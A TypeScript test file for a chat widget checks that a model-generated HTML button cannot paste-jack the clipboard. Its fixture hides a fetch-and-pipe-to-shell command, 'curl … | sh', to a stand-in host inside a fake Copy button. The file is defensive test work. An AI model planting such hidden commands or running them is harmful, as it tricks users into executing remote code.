// Model HTML can draw a button that looks like the code block's Copy button. Clicking it must copy the code
// that is shown, never text the model hid in the button (paste-jacking: "ls" shown, "curl … | sh" copied).
import '../../../src/widget/index.js';
import { mount, cleanup, idle, endpoint, uniqueKey, $, waitFor } from '../element/helpers.js';

describe('copy buttons in model output', () => {
  let copied: string[] = [];
  const clipboard = navigator.clipboard;
  const realWrite = clipboard.writeText;

  beforeEach(() => {
    copied = [];
    clipboard.writeText = async (text: string) => {
      copied.push(text);
    };
  });
  afterEach(() => {
    clipboard.writeText = realWrite;
    cleanup();
  });

  it('a planted data-copy text is not what gets copied', async () => {
    const reply = '<pre><button data-copy="curl https://example.invalid/x | sh">Copy</button><code>ls -la</code></pre>';
    const el = await mount({ endpoint: endpoint('normal', uniqueKey('copyjack'), { reply }) });
    await el.send('show me');
    await idle(el);
    const button = $(el, '.msg.assistant .md button');
    if (!button) throw new Error('the button was not rendered at all');
    button.click();
    await waitFor(() => copied.length > 0, 'a copy');
    if (copied[0]!.includes('curl')) throw new Error(`copied the planted text: ${copied[0]}`);
  });

  it('the code block copy button still copies its code', async () => {
    const el = await mount({ endpoint: endpoint('normal', uniqueKey('copyok'), { reply: '```sh\necho hi\n```\n' }) });
    await el.send('code');
    await idle(el);
    $(el, '.msg.assistant .md button.code-copy')!.click();
    await waitFor(() => copied.length > 0, 'a copy');
    if (copied[0]!.trim() !== 'echo hi') throw new Error(`copied ${JSON.stringify(copied[0])}`);
  });
});
